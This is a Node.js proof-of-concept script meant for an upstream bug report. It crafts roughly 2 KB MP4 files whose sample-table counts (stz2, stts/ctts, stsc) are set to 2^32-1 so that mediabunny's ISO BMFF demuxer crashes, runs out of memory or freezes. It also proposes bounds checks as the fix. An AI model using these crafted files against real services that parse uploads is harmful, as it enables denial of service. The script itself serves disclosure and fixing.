// Minimal reproduction, ready to report upstream: mediabunny 1.61's ISO BMFF demuxer (isobmff-demuxer.js) trusts
// 32-bit sample-table counts without checking them against the file's size, so a ~2 KB MP4 crashes or freezes the
// Node process that reads it.
//
//   node test/server/repro/mediabunny-unbounded-counts.mjs stz2   # stz2 field size 0, sample count 2^32-1:
//                                                                 #   "Fatal JavaScript invalid size error" (sampleSizes.push loop)
//   node test/server/repro/mediabunny-unbounded-counts.mjs stts   # one stts entry of 2^32-1 samples, plus a ctts:
//                                                                 #   heap out of memory (presentationTimestamps loop),
//                                                                 #   within seconds under --max-old-space-size=512,
//                                                                 #   after minutes and gigabytes without it
//   node test/server/repro/mediabunny-unbounded-counts.mjs stsc   # stsc samples-per-chunk 0xFFFFFFFF:
//                                                                 #   the event loop blocks for minutes (loop over the chunk's samples)
//
// Suggested fix upstream: bound each count by the bytes left in its box (stz2: field size 4, 8 or 16 only), and
// each per-entry sample count (stts, ctts, stsc) by the track's sample count from stsz/stz2.
// Only mediabunny is needed: the file is written by mediabunny itself, then one box is rewritten.
import {
  BufferSource,
  BufferTarget,
  EncodedAudioPacketSource,
  EncodedPacket,
  EncodedVideoPacketSource,
  Input,
  MP4,
  Mp4OutputFormat,
  Output,
} from 'mediabunny';

const u32 = (v) => [(v >>> 24) & 255, (v >>> 16) & 255, (v >>> 8) & 255, v & 255];
const box = (type, payload) => [...u32(8 + payload.length), ...[...type].map((c) => c.charCodeAt(0)), ...payload];

async function take() {
  const output = new Output({ format: new Mp4OutputFormat(), target: new BufferTarget() });
  const video = new EncodedVideoPacketSource('vp9');
  const audio = new EncodedAudioPacketSource('opus');
  output.addVideoTrack(video, { frameRate: 10 });
  output.addAudioTrack(audio);
  await output.start();
  for (let i = 0; i < 30; i++) {
    const meta = i === 0 ? { decoderConfig: { codec: 'vp09.00.10.08', codedWidth: 640, codedHeight: 480 } } : undefined;
    await video.add(new EncodedPacket(new Uint8Array(4), i === 0 ? 'key' : 'delta', i / 10, 0.1), meta);
  }
  for (let i = 0; i < 150; i++) {
    const meta = i === 0 ? { decoderConfig: { codec: 'opus', numberOfChannels: 1, sampleRate: 48000 } } : undefined;
    await audio.add(new EncodedPacket(new Uint8Array([0xfc, 0xff, 0xfe]), 'key', i / 50, 0.02), meta);
  }
  await output.finalize();
  return new Uint8Array(output.target.buffer);
}

/** Finds the first box of `type` under moov/trak/mdia/minf/stbl (the video track) and replaces it. */
function rewrite(file, type, replacement) {
  const view = new DataView(file.buffer);
  const path = ['moov', 'trak', 'mdia', 'minf', 'stbl', type];
  const parents = [];
  let at = 0;
  for (const [depth, step] of path.entries()) {
    while (String.fromCharCode(...file.subarray(at + 4, at + 8)) !== step) at += view.getUint32(at);
    if (depth < path.length - 1) {
      parents.push(at);
      at += 8;
    }
  }
  const size = view.getUint32(at);
  const replaced = replacement(file.subarray(at + 8, at + size));
  const delta = replaced.length - size;
  const out = new Uint8Array(file.length + delta);
  out.set(file.subarray(0, at));
  out.set(replaced, at);
  out.set(file.subarray(at + size), at + replaced.length);
  const outView = new DataView(out.buffer);
  for (const parent of parents) outView.setUint32(parent, outView.getUint32(parent) + delta);
  // Chunk offsets of both tracks move when moov precedes mdat.
  for (let i = 0; i + 8 < out.length; i++) {
    if (String.fromCharCode(...out.subarray(i + 4, i + 8)) !== 'stco' || i < at) continue;
    for (let entry = i + 16; entry < i + outView.getUint32(i); entry += 4)
      outView.setUint32(entry, outView.getUint32(entry) + delta);
  }
  return out;
}

const cases = {
  stz2: (file) => rewrite(file, 'stsz', () => box('stz2', [0, 0, 0, 0, 0, 0, 0, 0, ...u32(0xffffffff)])),
  stts: (file) =>
    rewrite(file, 'stts', () => [
      ...box('stts', [0, 0, 0, 0, ...u32(1), ...u32(0xffffffff), ...u32(1)]),
      ...box('ctts', [0, 0, 0, 0, ...u32(1), ...u32(1), ...u32(0)]),
    ]),
  stsc: (file) =>
    rewrite(file, 'stsc', (payload) => {
      const edited = [...payload];
      edited.splice(12, 4, ...u32(0xffffffff));
      return box('stsc', edited);
    }),
};

const name = process.argv[2];
if (!(name in cases)) throw new Error('usage: mediabunny-unbounded-counts.mjs stz2|stts|stsc');
const file = cases[name](await take());
console.log(`${name}: ${file.length} bytes; reading…`);
const started = Date.now();
const input = new Input({ source: new BufferSource(file), formats: [MP4] });
const track = await input.getPrimaryVideoTrack();
console.log('duration', await track.computeDuration(), `after ${Date.now() - started} ms`);
